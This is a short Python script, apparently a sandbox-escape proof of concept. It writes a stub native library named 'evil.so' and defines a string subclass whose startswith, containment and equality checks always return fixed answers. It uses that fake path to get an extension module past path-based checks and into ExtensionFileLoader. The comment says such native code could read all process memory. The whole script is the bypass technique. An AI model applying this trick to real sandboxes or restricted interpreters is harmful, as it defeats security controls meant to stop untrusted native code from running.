# Native code from the program's own folder could read all memory.
import importlib.machinery, importlib.util
open("evil.so", "wb").write(b"\x7fELF")
class Path(str):
    def startswith(self, *a): return True
    def __contains__(self, x): return False
    def __eq__(self, x): return False
    __hash__ = str.__hash__
loader = importlib.machinery.ExtensionFileLoader("evil", Path("./evil.so"))
importlib.util.module_from_spec(importlib.util.spec_from_loader("evil", loader))
